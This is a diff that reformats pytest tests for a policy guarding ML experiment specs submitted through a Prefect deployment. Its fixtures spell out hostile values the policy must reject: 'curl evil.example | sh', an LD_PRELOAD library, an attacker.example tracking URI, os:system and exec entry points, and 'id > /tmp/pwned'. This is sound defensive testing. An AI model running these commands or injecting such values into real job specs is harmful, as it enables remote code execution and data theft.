@@ -28,25 +28,29 @@ def changed(policy, **sections):
 
 
 def test_allowed_changes_pass(policy):
-    spec = changed(policy, train={"epochs": 3, "lr": 0.01, "params": {"hidden": 64, "dropout": 0.1}},
-                   compute={"num_nodes": 2})
+    spec = changed(
+        policy, train={"epochs": 3, "lr": 0.01, "params": {"hidden": 64, "dropout": 0.1}}, compute={"num_nodes": 2}
+    )
     assert policy.enforce(spec) is spec
     assert policy.enforce(policy.baseline) is policy.baseline
 
 
-@pytest.mark.parametrize("sections, field", [
-    ({"train": {"loop": "os:system"}}, "train.loop"),
-    ({"data": {"generate": "builtins:exec"}}, "data.generate"),
-    ({"setup": "curl evil.example | sh"}, "setup"),
-    ({"envs": {"LD_PRELOAD": "/tmp/evil.so"}}, "envs.LD_PRELOAD"),
-    ({"secrets": ["AWS_SECRET_ACCESS_KEY"]}, "secrets"),
-    ({"workdir": "/"}, "workdir"),
-    ({"storage": {"checkpoints": "/etc"}}, "storage.checkpoints"),
-    ({"tracking": {"uri": "http://attacker.example:5000"}}, "tracking.uri"),
-    ({"data": {"train": "/root/private.parquet"}}, "data.train"),
-    ({"compute": {"workers_per_node": 8}}, "compute.workers_per_node"),
-    ({"limits": {"max_runtime_minutes": 10_000}}, "limits.max_runtime_minutes"),
-])
+@pytest.mark.parametrize(
+    "sections, field",
+    [
+        ({"train": {"loop": "os:system"}}, "train.loop"),
+        ({"data": {"generate": "builtins:exec"}}, "data.generate"),
+        ({"setup": "curl evil.example | sh"}, "setup"),
+        ({"envs": {"LD_PRELOAD": "/tmp/evil.so"}}, "envs.LD_PRELOAD"),
+        ({"secrets": ["AWS_SECRET_ACCESS_KEY"]}, "secrets"),
+        ({"workdir": "/"}, "workdir"),
+        ({"storage": {"checkpoints": "/etc"}}, "storage.checkpoints"),
+        ({"tracking": {"uri": "http://attacker.example:5000"}}, "tracking.uri"),
+        ({"data": {"train": "/root/private.parquet"}}, "data.train"),
+        ({"compute": {"workers_per_node": 8}}, "compute.workers_per_node"),
+        ({"limits": {"max_runtime_minutes": 10_000}}, "limits.max_runtime_minutes"),
+    ],
+)
 def test_fixed_fields_are_refused_naming_the_field(policy, sections, field):
     with pytest.raises(SpecError) as refused:
         policy.enforce(changed(policy, **sections))
@@ -62,12 +66,15 @@ def test_spec_file_is_refused_unless_allowed(policy):
     assert policy.enforce(policy.baseline, spec_file="experiments/digits.yaml") is policy.baseline
 
 
-@pytest.mark.parametrize("loop, why", [
-    ("os:system", "not a function defined in module 'os'"),
-    ("builtins:print", "not a function defined in module 'builtins'"),
-    ("json:dumps", "defined outside the project folder"),
-    ("experiments.digits:np", "not a function defined in module 'experiments.digits'"),
-])
+@pytest.mark.parametrize(
+    "loop, why",
+    [
+        ("os:system", "not a function defined in module 'os'"),
+        ("builtins:print", "not a function defined in module 'builtins'"),
+        ("json:dumps", "defined outside the project folder"),
+        ("experiments.digits:np", "not a function defined in module 'experiments.digits'"),
+    ],
+)
 def test_an_allowed_loop_must_be_the_projects_own_function(policy, loop, why):
     policy.allow.append("train.loop")
     with pytest.raises(SpecError, match=why):
@@ -86,22 +93,40 @@ def test_nightly_deployment_declares_a_policy():
 
 def test_the_open_form_fixes_what_runs_on_the_worker_besides_the_loop():
     [open_form] = [entry for entry in declared(REPO / "prefect.yaml") if entry["name"] == "run-experiment"]
-    policy = FormPolicy("run-experiment", load_spec(REPO / "experiments" / "digits.yaml", [f"workdir={REPO}"]),
-                        open_form["form_policy"]["allow"])
-    assert policy.enforce(changed(policy, name="mine", train={"epochs": 3, "lr": 0.1, "params": {"hidden": 8}},
-                                  compute={"num_nodes": 2}, limits={"max_runtime_minutes": 30}))
+    policy = FormPolicy(
+        "run-experiment",
+        load_spec(REPO / "experiments" / "digits.yaml", [f"workdir={REPO}"]),
+        open_form["form_policy"]["allow"],
+    )
+    assert policy.enforce(
+        changed(
+            policy,
+            name="mine",
+            train={"epochs": 3, "lr": 0.1, "params": {"hidden": 8}},
+            compute={"num_nodes": 2},
+            limits={"max_runtime_minutes": 30},
+        )
+    )
     assert policy.enforce(changed(policy, train={"loop": "tests.loops.plain:no_step_given"}, data=None))  # no data
-    for field, value in (("setup", "curl evil | sh"), ("envs", {"LD_PRELOAD": "/tmp/x.so"}), ("secrets", ["AWS_KEY"]),
-                         ("workdir", "/"), ("storage", {"checkpoints": "/tmp/elsewhere"}),
-                         ("tracking", {"uri": "http://elsewhere:5000"})):
+    for field, value in (
+        ("setup", "curl evil | sh"),
+        ("envs", {"LD_PRELOAD": "/tmp/x.so"}),
+        ("secrets", ["AWS_KEY"]),
+        ("workdir", "/"),
+        ("storage", {"checkpoints": "/tmp/elsewhere"}),
+        ("tracking", {"uri": "http://elsewhere:5000"}),
+    ):
         with pytest.raises(SpecError, match=f"{field}.*: deployment 'run-experiment' fixes this field"):
             policy.enforce(changed(policy, **{field: value}))
 
 
-@pytest.mark.parametrize("deployment, loop_refusal", [
-    ("nightly-digits", "train.loop: deployment 'nightly-digits' fixes this field"),
-    ("run-experiment", "train.loop: 'os:system' is not a function defined in module 'os'"),
-])
+@pytest.mark.parametrize(
+    "deployment, loop_refusal",
+    [
+        ("nightly-digits", "train.loop: deployment 'nightly-digits' fixes this field"),
+        ("run-experiment", "train.loop: 'os:system' is not a function defined in module 'os'"),
+    ],
+)
 @pytest.mark.full
 def test_served_run_changing_a_fixed_field_fails_before_anything_exists(served, deployment, loop_refusal):
     """Through the real server and `gpuflow serve`: the run fails at spec_from, before validate or any cluster."""
@@ -110,8 +135,9 @@ def test_served_run_changing_a_fixed_field_fails_before_anything_exists(served, 
     spec = served.deployment(deployment).parameters["spec"]
     hostile = {**spec, "train": {**spec["train"], "loop": "os:system"}, "setup": "id > /tmp/pwned"}
     with served.client() as client:
-        flow_run = client.create_flow_run_from_deployment(served.deployment(deployment).id,
-                                                          parameters={"spec": hostile})
+        flow_run = client.create_flow_run_from_deployment(
+            served.deployment(deployment).id, parameters={"spec": hostile}
+        )
     flow_run = served.wait_until_final(flow_run.id)
     assert flow_run.state.is_failed()
     message = flow_run.state.message
@@ -119,7 +145,8 @@ def test_served_run_changing_a_fixed_field_fails_before_anything_exists(served, 
     assert f"setup: deployment '{deployment}' fixes this field" in message, message
     runs = MlflowClient(served.mlflow_url).search_runs(
         [e.experiment_id for e in MlflowClient(served.mlflow_url).search_experiments()],
-        f"tags.`prefect.flow_run_id` = '{flow_run.id}'")
+        f"tags.`prefect.flow_run_id` = '{flow_run.id}'",
+    )
     assert runs == []  # no MLflow run was opened, so no cluster either (both come after spec_from)
 
 
